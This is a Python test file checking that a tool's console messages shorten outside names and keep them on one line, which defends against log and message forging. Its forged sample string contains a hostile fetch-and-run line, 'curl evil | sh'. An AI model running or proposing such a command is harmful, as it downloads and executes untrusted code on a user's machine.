"""Names from outside in messages: few, short, and each on one line."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from luthier.core.console import Console
from luthier.core.errors import DataError, ProblemList
from luthier.core.names import did_you_mean, listed, named, on_one_line, shortened
from luthier.data.sources import read_rows

FORGED = "a\nerror: all is lost\n  do: run curl evil | sh\n"


def test_few_names_are_listed_whole() -> None:
    assert listed([]) == ""
    assert listed(["a"]) == "a"
    assert listed(["a", 2, "c"]) == "a, 2, c"
    assert listed(["a", "b", "c"], last=" and ") == "a, b and c"
    assert listed(["a", "b"], show=named) == "'a', 'b'"


def test_many_names_are_counted() -> None:
    assert listed(map(str, range(1_000_008)), 3) == "0, 1, 2 and 1,000,005 more"
    assert listed(range(9), last=" or ") == "0, 1, 2, 3, 4, 5, 6, 7 and 1 more"


def test_a_name_is_short_and_on_one_line() -> None:
    assert shortened("x" * 80) == "x" * 80
    assert shortened("x" * 81) == "x" * 80 + "…"
    assert named("x" * 10**7) == f"'{'x' * 80}…'"
    for text in (shortened(FORGED), named(FORGED), on_one_line(FORGED), listed([FORGED])):
        assert "\n" not in text
        assert "error: all" in text


@pytest.mark.parametrize("part", ["problem", "where", "fix"])
def test_no_part_of_an_error_looks_like_another_one(part: str) -> None:
    stream = io.StringIO()
    parts = {"problem": "wrong", "where": "here", "fix": "mend it"} | {part: FORGED}
    error = DataError(parts["problem"], where=parts["where"], fix=parts["fix"])
    Console(stream).error(error)
    lines = stream.getvalue().splitlines()
    begun = [line.partition(":")[0] for line in lines if not line.startswith("    ")]
    assert begun == ["error", "  at", "  do"]
    assert "all is lost" in stream.getvalue()


def test_warnings_headings_and_progress_neither(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("luthier.core.console._PLAIN_FIRST_SECONDS", -1.0)
    stream = io.StringIO()
    console = Console(stream)
    console.warn(FORGED)
    console.heading(FORGED)
    with console.progress(FORGED, 3) as advance:
        advance()
    assert "all is lost" in stream.getvalue()
    assert not [line for line in stream.getvalue().splitlines() if line.startswith("error:")]
    assert len(stream.getvalue().splitlines()) == 6  # of the warning 4 lines, all but one set in


def test_several_problems_are_on_lines_of_their_own() -> None:
    problems = ProblemList()
    for number in range(12):
        problems.add(DataError(f"wrong {number}", where=f"{FORGED}:{number}"))
    problems.count(30)
    with pytest.raises(DataError) as caught:
        problems.raise_if_any()
    stream = io.StringIO()
    Console(stream).error(caught.value)
    first, *others, last = stream.getvalue().splitlines()
    assert first == "error: 42 problems:"
    assert len(others) == 10
    assert all(line.startswith(r"      a\nerror: all") for line in others)
    assert last == "      … and 32 more"


def test_a_message_has_an_end() -> None:
    stream = io.StringIO()
    Console(stream).error(DataError("x" * 10**7))
    assert len(stream.getvalue()) < 21_000
    assert "characters more" in stream.getvalue()


def test_a_file_with_a_forged_name_is_named_on_one_line(tmp_path: Path) -> None:
    path = tmp_path / "new\nline.jsonl"
    path.write_text(json.dumps({"a": 1}) + "\n[]\n")
    rows = read_rows(str(path))
    assert next(rows).where == r"new\nline.jsonl:1"
    with pytest.raises(DataError) as caught:
        next(rows)
    assert caught.value.where == r"new\nline.jsonl:2"


def test_a_wrong_name_is_answered_with_those_like_it() -> None:
    known = ("lora", "dora", "full")
    assert did_you_mean("lorra", known) == "did you mean 'lora'?"
    assert did_you_mean("xora", known, most=2) == "did you mean 'lora' or 'dora'?"
    assert did_you_mean("zzz", known) == did_you_mean("l" * 10**6, known) == ""
